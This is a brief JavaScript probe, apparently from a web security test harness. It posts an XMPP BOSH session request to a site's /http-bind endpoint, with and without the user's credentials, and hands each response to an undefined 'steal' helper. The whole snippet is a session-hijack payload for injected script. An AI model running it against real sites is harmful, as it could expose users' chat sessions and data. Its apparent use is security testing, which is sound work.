// Tries: open an XMPP session of its own over the site's BOSH.
(async () => {
  const body = `<body xmlns="http://jabber.org/protocol/httpbind" rid="1" to="chat.test" ver="1.6" wait="1" hold="1" xmlns:xmpp="urn:xmpp:xbosh" xmpp:version="1.0"/>`;
  for (const credentials of ["include", "omit"]) {
    try {
      steal("open-bosh", await (await fetch("/http-bind", { method: "POST", credentials, headers: { "Content-Type": "text/xml" }, body })).text());
    } catch (error) {
      steal("open-bosh", String(error));
    }
  }
  over("open-bosh");
})();
